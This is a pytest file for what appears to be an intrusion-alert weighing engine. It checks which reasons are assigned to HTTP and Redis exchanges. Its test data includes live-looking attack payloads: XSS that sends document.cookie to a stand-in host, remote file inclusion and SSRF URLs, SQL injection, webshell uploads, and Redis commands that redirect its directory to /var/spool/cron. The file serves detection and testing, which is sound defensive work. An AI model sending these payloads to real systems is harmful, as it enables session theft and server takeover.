"""What a request is beside its syntax, what came of it, and what the trade of both ends says."""

# ruff: noqa: E501 - one line a case reads best
from __future__ import annotations

from dataclasses import replace

import pytest

from engine.agent.judging.scene import Scene
from engine.agent.judging.weighing import weigh
from engine.types import Direction, Span
from tests.engine.agent.cases import TARGET, case, detection

SHOP = b" HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11) Firefox/125.0\r\n"
SIGNED = SHOP + b"Cookie: sid=a81\r\n"
PAGE = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<title>Shop</title>"
BACK = f"//{TARGET}:8000/x".encode()
OBJECT = b"\xac\xed\x00\x05sr\x00\x13java.util.ArrayList"
OBJECTS = b"Content-Type: application/x-java-serialized-object\r\n\r\n"


def names(sent: bytes, back: bytes, event_class: str, *, at: int | None = None) -> set[str]:
    """Return what is considered of one exchange; ``at`` is where a detector matched."""
    subject = case(sent, event_class=event_class)
    carrier = replace(subject.flows[0], head=(sent, back))
    spans = () if at is None else (Span(Direction.TO_SERVER, at, 8),)
    alert = replace(subject.alerts[0], flow=carrier, detection=detection(event_class=event_class, spans=spans))
    return {reason.name for reason in weigh(Scene(replace(subject, alerts=(alert,), flows=(carrier,)), ()))}


@pytest.mark.parametrize(
    ("sent", "back", "event_class", "name", "holds"),
    [
        (b"GET /?page=http:" + BACK + SHOP + b"\r\n", PAGE, "file_inclusion", "calls_back", True),
        (b"GET /?page=a" + SHOP + b"X-Forwarded-For: " + TARGET.encode() + b"\r\n\r\n", PAGE, "file_inclusion", "calls_back", False),
        (b"GET /?u=http://9.9.9.9/x" + SHOP + b"\r\n", PAGE, "file_inclusion", "calls_bare_address", True),
        (b"GET /?u=http://10.9.9.9/x" + SHOP + b"\r\n", PAGE, "file_inclusion", "calls_bare_address", False),
        (b"GET /?q=%253Cscript%253Ealert(1)" + SHOP + b"\r\n", PAGE, "xss", "disguised", True),
        (b"GET /?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E" + SHOP + b"\r\n", PAGE, "xss", "breaks_out", True),
        (b"GET /?q=%3Cb%3Ebold%3C/b%3E" + SHOP + b"\r\n", PAGE, "xss", "breaks_out", False),
        (b"POST /c" + SHOP + b"\r\n<script>fetch('//e.example/?'+document.cookie)</script>", PAGE, "xss", "theft_sent_out", True),
        (b"POST /c" + SHOP + b"\r\n<script src=https://cdn.jsdelivr.net/a.js></script>", PAGE, "xss", "theft_sent_out", False),
        (b"GET /a HTTP/1.1\r\nHost: a\r\nUser-Agent: python-requests/2.31\r\n\r\n", PAGE, "web_exploit", "bare_client", True),
        (b"GET /a HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/8\r\nAuthorization: x\r\n\r\n", PAGE, "web_exploit", "bare_client", False),
        (b"POST /wp-json/x" + SHOP + b"\r\n" + b'{"role":"administrator"}', PAGE, "web_exploit", "stranger_administers", True),
        (b"POST /wp-json/x" + SIGNED + b"\r\n" + b'{"role":"administrator"}', PAGE, "web_exploit", "stranger_administers", False),
        (b"POST /uploads/2024/a.php" + SHOP + b"\r\nx=1", PAGE, "webshell", "script_in_uploads", True),
        (b"GET /uploads/2024/a.jpg" + SHOP + b"\r\n", PAGE, "webshell", "script_in_uploads", False),
        (b"POST /a/uploads/x.php" + SHOP + b"\r\nx=1", b"HTTP/1.1 200 OK\r\n\r\n->|uid|<-", "webshell", "answer_framed", True),
        (b"GET /?id=1'" + SHOP + b"\r\n", b"HTTP/1.1 500 E\r\n\r\nSQLException: near", "sql_injection", "answer_stumbles", True),
        (b"GET /?p=a" + SHOP + b"\r\n", b"HTTP/1.1 200 OK\r\n\r\n<b>Warning</b>: include(a)", "file_inclusion", "answer_stumbles", True),
        (b"POST /r" + SHOP + OBJECTS + OBJECT, b"HTTP/1.1 200 OK\r\n" + OBJECTS + OBJECT, "deserialisation", "answers_in_kind", True),
        (b"POST /r" + SHOP + OBJECTS + OBJECT, b"HTTP/1.1 200 OK\r\n" + OBJECTS + OBJECT + b"Exception", "deserialisation", "answers_in_kind", False),
        (b"*2\r\n$4\r\nAUTH\r\n$2\r\nxy\r\n", b"+OK\r\n", "vulnerability_exploit", "logged_in_first", True),
        (b"*2\r\n$4\r\nAUTH\r\n$2\r\nxy\r\n", b"-ERR invalid password\r\n", "vulnerability_exploit", "logged_in_first", False),
        (b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n", b"+OK\r\n", "vulnerability_exploit", "takes_service_over", True),
        (b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$7\r\n/backup\r\n", b"+OK\r\n", "vulnerability_exploit", "takes_service_over", False),
        (b"GET /?url=http://127.0.0.1:6379/" + SHOP + b"\r\n", PAGE, "ssrf", "points_at_secrets", True),
        (b"GET /?url=https://img.shop.example/a.png" + SHOP + b"\r\n", PAGE, "ssrf", "points_at_secrets", False),
    ],
)  # fmt: skip
def test_a_request_is_more_than_its_syntax(sent: bytes, back: bytes, event_class: str, name: str, holds: bool) -> None:
    assert (name in names(sent, back, event_class)) is holds


def test_a_statement_is_no_prose_for_the_words_it_shares_with_prose() -> None:
    statement = (
        b"POST /q" + SHOP + b"\r\nx=1 and 1=2 union select a from b where c is not null and d in (select e from f)"
    )
    article = (
        b"POST /q"
        + SHOP
        + b"\r\nx=see why 1=1 union select a from b is a sign of trouble, and what the team does about it"
    )
    told, read = (names(text, PAGE, "sql_injection", at=text.index(b"union")) for text in (statement, article))
    assert "in_prose" not in told and "in_short_value" in told
    assert "in_short_value" not in read
